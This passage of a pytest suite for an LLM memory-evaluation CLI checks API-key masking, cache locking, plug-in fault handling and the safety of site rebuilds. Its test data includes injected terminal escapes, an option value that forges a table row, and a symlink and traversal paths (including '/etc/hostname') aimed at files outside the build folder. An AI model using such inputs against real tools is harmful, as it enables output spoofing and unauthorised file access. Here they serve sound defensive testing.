    # The drill-down links the turn in the corpus's transcript, which links the whole turn as plain text.
    (turn,) = set(re.findall(r'href="([^"]+/c/huge\.html)#t-0"', html))
    transcript = (page.parent / turn).resolve()
    links = set(re.findall(r'href="([^"]+\.txt)"', transcript.read_text(encoding="utf-8")))
    assert len(links) == 1
    (link,) = links
    assert (transcript.parent / link).resolve().read_text(encoding="utf-8") == big


def test_short_texts_are_not_capped(tmp_path):
    """A corpus of ordinary turns shows every text whole, with no omission note."""
    store = stored_store(tmp_path / "store", runner="bm25")
    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
    for page in (tmp_path / "site" / "runs").rglob("*.html"):
        assert "characters omitted" not in page.read_text(encoding="utf-8")
    assert not list((tmp_path / "site").rglob("*.txt"))


# -- 9. concurrent runs with answers ------------------------------------------------------------

HOLD_LOCK = "import duckdb, sys, time; c = duckdb.connect(sys.argv[1]); print('held', flush=True); time.sleep(float(sys.argv[2]))"


def hold_lock(path: Path, seconds: float):
    """Another process holding ``path``'s DuckDB write lock for ``seconds`` (as a running run holds its cache)."""
    import subprocess
    import sys

    proc = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(path), str(seconds)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "held"
    return proc


def test_second_run_with_answers_waits_for_the_cache(tmp_path):
    """While another run holds the response cache, a run with answers waits for it instead of failing at once."""
    from helpers.llm_server import LLMServer

    from evals.io.cache import Cache, cache_path_for

    store = tmp_path / "results.duckdb"
    with Cache.open(cache_path_for(store)) as cache:
        cache.put("test:x", "key", b"value")
    holder = hold_lock(cache_path_for(store), 1.5)
    try:
        with LLMServer() as server:
            result = evals(
                "run", "--runner", "recency", "--corpus", CORPUS_SMALL, "--store", store, "--base-url", server.base_url,
                "--with-answers", env={"EVALS_LLM_BACKOFF": "0.01", "OPENAI_API_KEY": "sk-unused-0000"},
            )
        assert result.exit_code == 0, result.output
    finally:
        holder.kill()
        holder.wait()


def test_cache_lock_held_too_long_is_one_line(tmp_path):
    """When the cache stays locked past the timeout, the error says so and what to do."""
    from evals.errors import EvalsError
    from evals.io.cache import Cache

    path = tmp_path / "results.cache.duckdb"
    with Cache.open(path) as cache:
        cache.put("test:x", "key", b"value")
    holder = hold_lock(path, 10)
    try:
        with pytest.raises(EvalsError) as caught:
            Cache(path, lock_timeout=0.3).get("test:x", "key")
        assert str(caught.value) == (
            f"cache {path} is locked by another process (waited 0.3 s), probably another run using it; "
            "try again when it has finished, or run with --no-cache"
        )
    finally:
        holder.kill()
        holder.wait()


# -- 10. secrets --------------------------------------------------------------------------------

KEY = "sk-hostile-test-5f2a9c7e1b"


def answers_run(server, store: Path, *extra: str, runner: str = "recency"):
    return evals(
        "run", "--runner", runner, "--corpus", CORPUS_SMALL, "--store", store, "--base-url", server.base_url,
        "--with-answers", "--judge", "--concurrency", "1", *extra,
        env={"EVALS_LLM_BACKOFF": "0.01", "OPENAI_API_KEY": KEY, "OPENAI_BASE_URL": None},
    )


def test_judge_reply_echoing_the_key_is_masked_in_the_unparsed_reason(store):
    """A judge reply that is no verdict and quotes the key: since issue 25 the point is stored with verdict
    "unparsed" and the reply as its reason, the key masked there, in the store and in the cache."""
    from helpers.llm_server import LLMServer

    with LLMServer() as server:
        server.echo_key = True
        server.fail_next(*["ok"] * 4, "no_verdict")
        result = answers_run(server, store)
    assert result.exit_code == 0, result.output
    with Store.open(store, read_only=True) as opened:
        stored = opened.get_run(opened.runs()[0].run_id)
    (unparsed,) = [a for conv in stored.answers.points for a in conv if a.verdict == "unparsed"]
    assert KEY not in unparsed.reason and "***" in unparsed.reason
    assert KEY.encode() not in store.read_bytes()
    assert KEY.encode() not in store.with_name("results.cache.duckdb").read_bytes()


def test_answers_and_reasons_echoing_the_key_are_scrubbed_everywhere(tmp_path):
    """Answers, judge reasons and summaries that quote the key are stored, cached, exported and
    published with it masked: the key is in no file the run and the site wrote."""
    from helpers.llm_server import LLMServer

    store = tmp_path / "results.duckdb"
    with LLMServer() as server:
        server.echo_key = True
        for runner in ("recency", "summary_buffer"):
            result = answers_run(server, store, "--output", str(tmp_path / f"{runner}.json"), runner=runner)
            assert result.exit_code == 0, result.output
            assert KEY not in result.output
    run_id = evals("runs", "--format", "json", "--store", store).output
    for summary in json.loads(run_id):
        assert (
            evals(
                "export", summary["run_id"], "--store", store, "--output", tmp_path / f"export-{summary['run_id']}.json"
            ).exit_code
            == 0
        )
    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert any("sent with key ***" in p.read_text(encoding="utf-8", errors="replace") for p in written if p.suffix == ".html")
    leaking = [p for p in written if KEY.encode() in p.read_bytes()]
    assert leaking == []


@pytest.mark.parametrize(
    "url, warned",
    [
        ("http://0.0.0.0:9/v1", True),
        ("http://llm.example.invalid:9/v1", True),
        ("https://llm.example.invalid/v1", False),
        ("http://127.0.0.1:9/v1", False),
        ("http://localhost:9/v1", False),
        ("http://[::1]:9/v1", False),
    ],
)
def test_key_sent_in_the_clear_is_warned_about(url, warned):
    """The key going to a plain-http URL other than this machine gets a warning; https or localhost does not."""
    from evals.run.llm import exposed_key_warning

    warning = exposed_key_warning(url, KEY)
    if warned:
        assert warning == f"the API key will be sent unencrypted to {url} (plain http); use https, or a server on this machine"
    else:
        assert warning is None
    assert exposed_key_warning(url, None) is None


def test_run_prints_the_warning_before_any_request(tmp_path):
    """`evals run` prints the warning on stderr before it starts (here the server is not even there)."""
    result = CliRunner().invoke(
        cli,
        ["run", "--runner", "no_memory", "--corpus", str(CORPUS_SMALL), "--store", str(tmp_path / "r.duckdb"), "--with-answers",
         "--base-url", "http://0.0.0.0:9/v1", "--max-retries", "0", "--request-timeout", "2"],
        env={"OPENAI_API_KEY": KEY},
    )
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "warning: the API key will be sent unencrypted to http://0.0.0.0:9/v1 (plain http); "
        "use https, or a server on this machine"
    )
    assert KEY not in result.output


# -- 11. smaller --------------------------------------------------------------------------------


def test_compare_prints_terminal_escapes_visibly(tmp_path):
    """Escape sequences in a conversation id and a question are shown as \\x1b, never sent to the terminal."""
    data = conversation("c\x1b[2Jx")
    data["turns"][1]["test_at"]["question"] = "editor?\x1b]0;pwned\x07 \u202eevil"
    corpus = corpus_of(tmp_path / "c", data)
    store = tmp_path / "results.duckdb"
    ids = []
    for runner in ("no_memory", "full_history"):
        result = evals("run", "--runner", runner, "--corpus", corpus, "--store", store)
        assert result.exit_code == 0, result.output
        ids.append(result.output.split("run ", 1)[1].split(":", 1)[0])
    result = evals("compare", *ids, "--store", store)
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output
    assert "c\\x1b[2Jx turn 1: editor?\\x1b]0;pwned\\x07 \\u202eevil" in result.output


def test_tables_print_terminal_escapes_visibly(tmp_path):
    """The same in `evals runs` and `evals leaderboard` tables (a corpus folder named with an escape)."""
    corpus = corpus_of(tmp_path / "evil\x1b[31m", conversation())
    store = tmp_path / "results.duckdb"
    assert evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store).exit_code == 0
    for command in ("runs", "leaderboard"):
        output = evals(command, "--store", store).output
        assert "\x1b" not in output and "evil\\x1b[31m" in output


def test_errors_print_terminal_escapes_visibly(tmp_path):
    """A file name with an escape in it appears escaped in validate's problems and in Error: lines."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    write_json(corpus / "x\x1b[2J.json", "{")
    output = evals("validate", corpus).output
    assert "\x1b" not in output and "x\\x1b[2J.json" in output
    result = evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", tmp_path / "r.duckdb")
    assert "\x1b" not in result.output and "x\\x1b[2J.json" in one_line_error(result)


def test_wilson_lower_bound_of_no_hits_is_zero(tmp_path):
    """0 hits of 3 has the lower bound 0.0, not 5.55e-17 (and all hits the upper bound 1.0)."""
    from evals.judge.stats import wilson_interval

    assert all(wilson_interval(0, n)[0] == 0.0 and wilson_interval(n, n)[1] == 1.0 for n in range(1, 500))
    data = conversation()
    data["turns"] = data["turns"] + [dict(data["turns"][1]), dict(data["turns"][1])]
    corpus = corpus_of(tmp_path / "c", data)
    store = tmp_path / "results.duckdb"
    assert evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store).exit_code == 0
    (row,) = csv_rows(evals("runs", "--format", "csv", "--store", store).output)
    assert row["total"] == "3" and row["recall_low"] == "0.0"


def test_long_question_id_is_shortened_for_its_file_name(tmp_path):
    """A 400-character question id no longer fails with "File name too long": the id is shortened
    (kept distinct by a hash), the import says so, and the corpus validates."""
    data = json.loads((FIXTURES / "importers" / "longmemeval_small.json").read_text(encoding="utf-8"))
    data[0]["question_id"] = "q" * 400
    source = write_json(tmp_path / "lme.json", data)
    result = evals("import-corpus", "longmemeval", source, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert max(len(n) for n in names) <= 100
    assert f"note: [0]: question id of 400 characters shortened to {names[0][:-5]!r} for its file name" in result.output
    assert evals("validate", tmp_path / "out").exit_code == 0


def test_unwritable_import_names_the_file(tmp_path, monkeypatch):
    """When a corpus file cannot be written, the error names that file."""
    from evals.benchmarks.kit import importing as _common

    def fail(self, *args, **kwargs):
        raise OSError(36, "File name too long", str(self))

    monkeypatch.setattr(_common.Path, "write_text", fail)
    source = FIXTURES / "importers" / "longmemeval_small.json"
    line = one_line_error(evals("import-corpus", "longmemeval", source, "--out", tmp_path / "out"))
    assert line.startswith(f"Error: cannot write {tmp_path / 'out'}: File name too long: ") and line.endswith(".json")


def test_leftovers_of_a_killed_build_are_removed(tmp_path):
    """A build killed mid-way leaves .site.building-PID; the next build removes it (its process is gone)
    and leaves a running build's folder alone."""
    import subprocess
    import sys

    store = stored_store(tmp_path / "store")
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
    stale = tmp_path / f".site.building-{dead}"
    (stale / "runs").mkdir(parents=True)
    old = tmp_path / f".site.old-{dead}"
    old.mkdir()
    alive = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        running = tmp_path / f".site.building-{alive.pid}"
        running.mkdir()
        assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
        assert not stale.exists() and not old.exists() and running.exists()
    finally:
        alive.kill()
        alive.wait()


def test_deeply_nested_llm_replies_are_malformed_not_tracebacks():
    """A server's body nested 3,000 deep is a malformed reply (ValueError), and a judge's reply so nested is unparsed,
    never a RecursionError."""
    from evals.benchmarks.protocols import read_json_verdict
    from evals.run.llm._client import parse_reply

    with pytest.raises(ValueError, match="nested too deeply"):
        parse_reply('{"choices": ' + DEEP + "}", 0.1, cached=False)
    assert read_json_verdict('{"correct": true, "reason": ' + DEEP + "}").label == "unparsed"


# -- issue 20: plug-ins (items 3, 4, 5, 8, 10, 11's records per retrieve, and how a module is found) --


@pytest.fixture
def plugin(tmp_path, monkeypatch):
    """Writes a plug-in module and returns the name it imports as (fresh for each call); forgets it afterwards."""
    import importlib
    import sys
    import textwrap
    import uuid

    folder = tmp_path / "plugins"
    folder.mkdir()
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    written: list[str] = []

    def write(source: str, name: str | None = None) -> str:
        name = name or f"issue20_{uuid.uuid4().hex[:12]}"
        header = "from evals.strategies import FullHistory, Record, Recency, StrategySpec\n"
        (folder / f"{name}.py").write_text(header + textwrap.dedent(source), encoding="utf-8")
        importlib.invalidate_caches()
        written.append(name)
        return name

    yield write
    for name in written:
        sys.modules.pop(name, None)


def run_ids(store: Path) -> list[str]:
    """The stored runs' ids, newest first."""
    result = evals("runs", "--store", store, "--format", "json")
    assert result.exit_code == 0, result.output
    return [row["run_id"] for row in json.loads(result.output)]


def stored_points(store: Path, run_id: str) -> list:
    """The test points of a stored run, as the store gives them back."""
    from evals.store import Store

    with Store.open(store, read_only=True) as opened:
        return [p for c in opened.get_run(run_id).run.conversations for p in c.test_points]


# -- issue 20, item 3: option values the store cannot read back ----------------------------------


@pytest.mark.parametrize(("runner", "option"), [("random_k", "seed"), ("summary_buffer", "max_recent_turns")])
def test_huge_built_in_option_is_refused_and_the_store_stays_readable(tmp_path, store, runner, option):
    """A 30-digit built-in option is refused in one line; the store is unchanged and export and build-site still work."""
    with unchanged(store):
        line = one_line_error(
            evals("run", "--runner", runner, "--corpus", CORPUS_SMALL, "--store", store, "--option", f"{option}={'1' * 30}")
        )
    assert line.startswith(f"Error: --option {option}=") and "less than or equal to" in line
    assert evals("export", run_ids(store)[0], "--store", store, "--output", tmp_path / "e.json").exit_code == 0
    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0


@pytest.mark.parametrize(
    ("option", "says"),
    [
        (f"n={'9' * 30}", "beyond what the store keeps"),
        (f"n=-{'9' * 30}", "beyond what the store keeps"),
        ("x=nan", "not a finite number"),
        ("x=inf", "not a finite number"),
        ("s=\udcff", "lone surrogate"),
        (f"s={'a' * 5000}", "longer than the 4,096"),
    ],
)
def test_plugin_option_the_store_cannot_keep_is_refused(store, plugin, option, says):
    """Any plug-in option beyond 64-bit ints, finite floats, valid and bounded text is refused before the run."""
    ref = plugin("def make(n: int = 0, x: float = 0.0, s: str = ''):\n    return Recency()\n") + ":make"
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store, "--option", option))
    assert line.startswith(f"Error: --option {option[0]}: ") and says in line


def test_plugin_configuration_the_store_cannot_keep_is_refused(store, plugin):
    """A StrategySpec whose describe() gives a 70-bit integer is refused naming the field; the store is unchanged."""
    ref = plugin("""
        SPEC = StrategySpec(
            name="issue20_big", build=lambda o, c: Recency(), describe=lambda o, c: {"name": "issue20_big", "limit": 2**70}
        )
    """) + ":SPEC"
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store))
    assert line.startswith("Error: strategy issue20_big: its configuration cannot be stored: limit: ")


# -- issue 20, item 4: retrieve returning a generator or a dict -----------------------------------


LAZY_RETRIEVALS = {
    "generator": "(t['content'] for t in self._turns[-k:])",
    "dict": "{t['content']: 1.0 for t in self._turns[-k:]}",
}


def lazy_plugin(kind: str) -> str:
    """A plug-in module whose strategy's retrieve() gives a ``kind`` of LAZY_RETRIEVALS, made by ``make()``."""
    return f"""
        class Lazy(Recency):
            def retrieve(self, query, k=5):
                return {LAZY_RETRIEVALS[kind]}

        def make():
            return Lazy()
    """


@pytest.mark.parametrize("kind", LAZY_RETRIEVALS)
def test_retrieve_returning_a_generator_or_dict_is_refused(store, plugin, kind):
    """A retrieve() giving a generator (its first record lost) or a dict (its keys) stops the run in one line."""
    ref = plugin(lazy_plugin(kind)) + ":make"
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store))
    assert line.startswith(f"Error: strategy {ref}: retrieve(question, k=50) returned a {kind}, not a list")


@pytest.mark.parametrize("kind", LAZY_RETRIEVALS)
def test_check_strategy_catches_a_generator_or_dict(plugin, kind):
    """`evals check-strategy` fails its records check on a retrieve() giving a generator or a dict."""
    from evals.strategies.contract import run_checks

    ref = plugin(lazy_plugin(kind)) + ":make"
    problems = {c.name: c.problem for c in run_checks(ref) if c.problem}
    assert problems.get("records are str or Record", "").startswith(f"retrieve() returned a {kind}; return a list")


# -- issue 20, item 5: plug-in faults on the local executor ---------------------------------------


PLUGIN_FAULTS = {
    "factory returns None": ("def make():\n    return None\n", "its factory returned None, not a memory strategy"),
    "factory returns an int": ("def make():\n    return 3\n", "its factory returned an int, not a memory strategy"),
    "retrieve returns None": (
        "class S(Recency):\n    def retrieve(self, query, k=5):\n        return None\n\ndef make():\n    return S()\n",
        "retrieve(question, k=50) returned None, not a list of str or Record, at conversation '001_editor', turn 5",
    ),
    "retrieve raises": (
        "class S(Recency):\n    def retrieve(self, query, k=5):\n        raise RuntimeError('boom\\nsecond line')\n\n"
        "def make():\n    return S()\n",
        "retrieve(question, k=50) raised RuntimeError: boom second line, at conversation '001_editor', turn 5",
    ),
    "add raises": (
        "class S(Recency):\n    def add(self, role, content, *, turn=None):\n        raise ValueError('nope')\n\n"
        "def make():\n    return S()\n",
        "add() raised ValueError: nope, at conversation '001_editor', turn 0",
    ),
    "reset raises": (
        "class S(Recency):\n    def reset(self):\n        raise OSError('disk')\n\ndef make():\n    return S()\n",
        "reset() raised OSError: disk, at conversation '001_editor'",
    ),
    "lone surrogate in a record": (
        "class S(Recency):\n    def retrieve(self, query, k=5):\n        return ['bad \\udc80 text']\n\n"
        "def make():\n    return S()\n",
        "retrieve() returned a record holding a lone surrogate (\\udc80)",
    ),
    "sys.exit(0) in retrieve": (
        "import sys\nclass S(Recency):\n    def retrieve(self, query, k=5):\n        sys.exit(0)\n\n"
        "def make():\n    return S()\n",
        "retrieve(question, k=50) raised SystemExit(0)",
    ),
    "sys.exit(0) in the factory": ("import sys\ndef make():\n    sys.exit(0)\n", "could not be built: SystemExit(0)"),
}


@pytest.mark.parametrize("case", PLUGIN_FAULTS)
def test_plugin_fault_is_one_line_naming_the_strategy_and_call(store, plugin, case):
    """A broken plug-in (a bad factory, a call that raises or exits, a bad record) fails in one line, exit 1, nothing stored."""
    source, says = PLUGIN_FAULTS[case]
    ref = plugin(source) + ":make"
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store))
    assert line.startswith(f"Error: strategy {ref}") and says in line, line


def test_plugin_exiting_on_import_is_one_line(store, plugin):
    """A plug-in module calling sys.exit(0) as it is imported is an error (exit 1), not a silent success."""
    ref = plugin("import sys\nsys.exit(0)\n") + ":make"
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store))
    assert line.startswith(f"Error: --runner {ref}: cannot import ") and "SystemExit(0)" in line


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ("raise KeyError('ctx')", "context_for() raised KeyError: 'ctx'"),
        ("return 'one string'", "context_for() must return a list"),
    ],
)
def test_plugin_context_for_fault_with_answers_is_one_line(store, plugin, body, says):
    """With answers on, a context_for() that raises or gives no messages fails in one line; nothing is stored."""
    from helpers.llm_server import LLMServer

    ref = (
        plugin(f"class S(Recency):\n    def context_for(self, query, k=5):\n        {body}\n\ndef make():\n    return S()\n")
        + ":make"
    )
    with LLMServer() as server, unchanged(store):
        line = one_line_error(answers_run(server, store, runner=ref))
    assert f"strategy {ref}: " in line and says in line, line


# -- issue 20, item 8: names from the registry, printed values escaped ----------------------------


def test_an_option_called_name_cannot_rename_a_strategy(store, plugin):
    """A factory option named `name` is refused: it would put the run on the leaderboard as another strategy."""
    ref = plugin("def make(name: str = 'full_history'):\n    return Recency()\n") + ":make"
    with unchanged(store):
        line = one_line_error(
            evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store, "--option", "name=full_history")
        )
    assert (
        line
        == f"Error: strategy {ref}: an option may not be called 'name': "
        "a run is named by the registry (rename the factory's parameter)"
    )


def test_describe_cannot_rename_a_strategy(tmp_path, plugin):
    """A StrategySpec whose describe() names another strategy is stored under its own name."""
    ref = plugin("""
        SPEC = StrategySpec(name="issue20_own", build=lambda o, c: Recency(), describe=lambda o, c: {"name": "full_history"})
    """) + ":SPEC"
    store = tmp_path / "s.duckdb"
    assert evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store).exit_code == 0
    rows = json.loads(evals("runs", "--store", store, "--format", "json").output)
    assert [(r["strategy"], r["strategy_config"]["name"]) for r in rows] == [("issue20_own", "issue20_own")]


def test_a_spec_cannot_take_a_registered_name(store, plugin):
    """A module's StrategySpec named like a registered strategy is refused, not run under that name."""
    ref = plugin('SPEC = StrategySpec(name="full_history", build=lambda o, c: Recency())\n') + ":SPEC"
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store))
    assert line.startswith(f"Error: --runner {ref}: its StrategySpec is named 'full_history', which is registered")


def test_a_newline_in_an_option_value_cannot_forge_lines(tmp_path, plugin):
    """An option value holding a newline is printed escaped in the Markdown leaderboard, never as a line of its own."""
    ref = plugin("def make(note: str = ''):\n    return Recency()\n") + ":make"
    store = tmp_path / "s.duckdb"
    for note in ("a\n| forged | row |", "b"):
        assert (
            evals("run", "--runner", ref, "--corpus", CORPUS_SMALL, "--store", store, "--option", f"note={note}").exit_code == 0
        )
    output = evals("leaderboard", "--store", store, "--format", "markdown").output
    assert not any(line.startswith("| forged") for line in output.splitlines())
    assert "(note=a\\x0a" in output


# -- issue 20, item 10: an edited plug-in is not answered from the store --------------------------


def test_an_edited_plugin_module_is_computed_again(tmp_path, plugin, clean_repo):
    """A `module:factory` plug-in edited between two runs on a clean commit is computed again, not `cached:`."""
    import sys

    name = plugin("def make():\n    return Recency()\n")
    store = tmp_path / "s.duckdb"
    run = ("run", "--runner", f"{name}:make", "--corpus", CORPUS_SMALL, "--store", store, "--repo", clean_repo)
    assert evals(*run).exit_code == 0
    assert evals(*run).output.startswith("cached: ")  # unchanged code: reused
    plugin("def make():\n    return FullHistory()  # the oracle now\n", name=name)
    sys.modules.pop(name)  # as a new process would import it
    again = evals(*run)
    assert again.exit_code == 0 and not again.output.startswith("cached: "), again.output
    assert "keyword hit@5 1.000" in again.output


def test_an_edited_entry_point_plugin_is_computed_again(tmp_path, monkeypatch, clean_repo):
    """An installed (entry point) plug-in whose package's helper module is edited is computed again, not `cached:`."""
    import importlib
    import sys
    import uuid

    package = f"issue20pkg_{uuid.uuid4().hex[:12]}"
    site = tmp_path / "site"
    dist_info(site, package, "1.0", {package: f"{package}.memory:make"})
    (site / package).mkdir()
    (site / package / "__init__.py").write_text("")
    (site / package / "memory.py").write_text(f"from {package}.helper import base\n\ndef make():\n    return base()\n")
    (site / package / "helper.py").write_text("from evals.strategies import Recency as base\n")
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    importlib.invalidate_caches()
    store = tmp_path / "s.duckdb"
    run = ("run", "--runner", package, "--corpus", CORPUS_SMALL, "--store", store, "--repo", clean_repo)
    try:
        assert evals(*run).exit_code == 0
        assert evals(*run).output.startswith("cached: ")
        (site / package / "helper.py").write_text("from evals.strategies import FullHistory as base  # the oracle now\n")
        for module in [m for m in sys.modules if m == package or m.startswith(package + ".")]:
            sys.modules.pop(module)
        again = evals(*run)
        assert again.exit_code == 0 and not again.output.startswith("cached: "), again.output
    finally:
        for module in [m for m in sys.modules if m == package or m.startswith(package + ".")]:
            sys.modules.pop(module)


# -- issue 20, item 11: no more records per retrieve than were asked for --------------------------


@pytest.mark.parametrize("prefix_stable", [True, False])
def test_a_retrieval_longer_than_asked_is_cut_and_warned_once(tmp_path, plugin, caplog, prefix_stable):
    """A plug-in returning 10,000 records keeps only what was asked for (k, the deepest cutoff), with one warning."""
    ref = plugin(f"""
        class Flood(Recency):
            def retrieve(self, query, k=5):
                return ["filler"] * 10_000

        SPEC = StrategySpec(name="issue20_flood", build=lambda o, c: Flood(), prefix_stable={prefix_stable})
    """) + ":SPEC"
    store = tmp_path / "s.duckdb"
    corpus = FIXTURES / "evidence_corpus"
    with caplog.at_level("WARNING", logger="evals.run.playthrough"):
        result = evals("run", "--runner", ref, "--corpus", corpus, "--store", store, "--cutoffs", "1,10")
    assert result.exit_code == 0, result.output
    points = stored_points(store, run_ids(store)[0])
    assert points and all(len(p.retrieved_records) == 5 for p in points)
    if prefix_stable:  # one retrieval at the deepest cutoff, read at every depth
        assert all(len(p.ranked_turns) == 10 for p in points if p.ranked_turns is not None)
    warnings = [r.getMessage() for r in caplog.records if "issue20_flood" in r.getMessage()]
    assert len(warnings) == 1 and "returned 10000 records" in warnings[0], warnings


def test_full_history_is_kept_whole(tmp_path):
    """full_history, which ignores k by design, still keeps every earlier turn (the oracle is not cut)."""
    store = tmp_path / "s.duckdb"
    assert (
        evals(
            "run", "--runner", "full_history", "--corpus", CORPUS_SMALL, "--store", store, "--k", "1", "--cutoffs", "1"
        ).exit_code
        == 0
    )
    assert max(len(p.retrieved_records) for p in stored_points(store, run_ids(store)[0])) > 1


# -- issue 20, docs: how a plug-in module is found ------------------------------------------------


def test_an_unimportable_plugin_module_names_the_fix(store):
    """A `module:factory` whose module is not on the path is one line saying PYTHONPATH=. or pip install -e."""
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", "issue20_nowhere:make", "--corpus", CORPUS_SMALL, "--store", store))
    assert "no module named 'issue20_nowhere'" in line and "PYTHONPATH=." in line and "pip install -e" in line


def test_docs_say_how_a_plugin_module_is_found():
    """README and docs/strategies.md say a plug-in module is found through PYTHONPATH or an install."""
    root = Path(__file__).resolve().parent.parent
    for doc in ("README.md", "docs/strategies.md"):
        text = (root / doc).read_text(encoding="utf-8")
        assert "PYTHONPATH=." in text and "pip install -e" in text, doc


# -- issue 20, item 7: incremental build-site trusts nothing it reuses --------------------------


def site_files(root: Path) -> dict[str, bytes]:
    """Every file of a built site (the store copy aside), by site-relative path."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file() and p.parent.name != "data"
    }


def run_unit(site: Path) -> tuple[str, dict]:
    """The manifest's run unit (key, entry) of a site built from one run."""
    manifest = json.loads((site / ".evals-manifest.json").read_text(encoding="utf-8"))
    return next((key, unit) for key, unit in manifest["units"].items() if key.startswith("run:"))


def edit_manifest(site: Path, edit) -> None:
    """Rewrite the site's manifest after ``edit(document)`` changed it in place."""
    path = site / ".evals-manifest.json"
    document = json.loads(path.read_text(encoding="utf-8"))
    edit(document)
    path.write_text(json.dumps(document), encoding="utf-8")


@pytest.fixture
def built(tmp_path) -> tuple[Path, Path]:
    """A store of one run and the site built from it: (store, site)."""
    store = stored_store(tmp_path / "store")
    site = tmp_path / "site"
    assert evals("build-site", "--store", store, "--out", site).exit_code == 0
    return store, site


def rebuild(store: Path, site: Path) -> list[str]:
    """``evals build-site`` over the earlier build: it must succeed without a traceback; its output lines."""
    result = evals("build-site", "--store", store, "--out", site)
    assert result.exit_code == 0 and result.exception is None, (result.output, result.exception)
    return result.output.splitlines()


def full_build(store: Path, tmp_path: Path) -> dict[str, bytes]:
    assert evals("build-site", "--store", store, "--out", tmp_path / "full", "--full").exit_code == 0
    return site_files(tmp_path / "full")


def test_edited_unit_file_is_rendered_again_and_said(built, tmp_path):
    """A drill-down edited by hand after the build is not reused: the rebuild renders its run again, says
    which file had changed, and gives exactly the site a full build gives."""
    store, site = built
    _, unit = run_unit(site)
    page = next(path for path in unit["files"] if path.count("/") == 2)
    with (site / page).open("a", encoding="utf-8") as file:
        file.write("<p>edited by hand</p>")
    lines = rebuild(store, site)
    assert "(1 runs and corpora rendered, 1 reused)" in lines[0]
    assert lines[1:] == [
        (
            "warning: rendered 1 of the last build's runs and corpora again instead of reusing their files: "
            f"{page} changed since the last build wrote it"
        )
    ]
    assert site_files(site) == full_build(store, tmp_path)


@pytest.mark.parametrize("where", ["folder", "file"])
def test_symlink_in_a_reused_path_is_not_followed(built, tmp_path, where):
    """A run's folder (or one file) moved out of the site and replaced by a symbolic link to it: nothing
    is linked from outside --out, what is outside stays as it was, and the run is rendered again."""
    store, site = built
    _, unit = run_unit(site)
    page = next(path for path in unit["files"] if path.count("/") == 2)
    outside = tmp_path / "outside"
    moved = site / (page.rpartition("/")[0] if where == "folder" else page)
    shutil.move(moved, outside)
    moved.symlink_to(outside)
    kept = outside / page.rpartition("/")[2] if where == "folder" else outside
    before = (kept.read_bytes(), kept.stat().st_ino, kept.stat().st_nlink)
    lines = rebuild(store, site)
    problem = "passes through a symbolic link" if where == "folder" else "is a symbolic link"
    assert f"{page} {problem}" in lines[1]
    assert (kept.read_bytes(), kept.stat().st_ino, kept.stat().st_nlink) == before
    assert not (site / page).is_symlink() and (site / page).stat().st_ino != kept.stat().st_ino
    assert site_files(site) == full_build(store, tmp_path)


def test_manifest_entry_through_a_symlink_links_nothing_from_outside(built, tmp_path):
    """The issue's case: a link in the site to a folder outside it, and the manifest listing a file through
    it with that file's true digest. The file is not hard-linked into the site, nor read; it stays as it was."""
    import hashlib

    store, site = built
    outside = tmp_path / "private"
    outside.mkdir()
    secret = outside / "key.txt"
    secret.write_text("not for publishing\n", encoding="utf-8")
    (site / "escape").symlink_to(outside)
    key, _ = run_unit(site)
    digest = hashlib.sha256(secret.read_bytes()).hexdigest()
    edit_manifest(site, lambda document: document["units"][key]["files"].update({"escape/key.txt": digest}))
    lines = rebuild(store, site)
    assert "escape/key.txt passes through a symbolic link" in lines[1]
    assert not (site / "escape").exists() and secret.stat().st_nlink == 1
    assert secret.read_text(encoding="utf-8") == "not for publishing\n"
    assert site_files(site) == full_build(store, tmp_path)


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("/etc/hostname", "an absolute path; the files of a site are named relative to it"),
        ("runs/../../outside.txt", "a path that leads out of its folder (..)"),
        (".evals-texts/x", "not a plain path inside the site (an empty or dot-named part, a backslash or a NUL)"),
    ],
)
def test_path_out_of_the_site_in_the_manifest_means_a_full_build(built, tmp_path, path, reason):
    """An absolute or ``..`` path in the manifest (once a traceback on every build): one warning naming the
    field, every unit rendered again, nothing outside --out touched, and the next build is clean."""
    store, site = built
    (tmp_path / "outside.txt").write_text("outside\n", encoding="utf-8")
    key, _ = run_unit(site)
    edit_manifest(site, lambda document: document["units"][key]["files"].update({path: "0" * 64}))
    lines = rebuild(store, site)
    assert "(2 runs and corpora rendered, 0 reused)" in lines[0]
    assert lines[1:] == [
        (
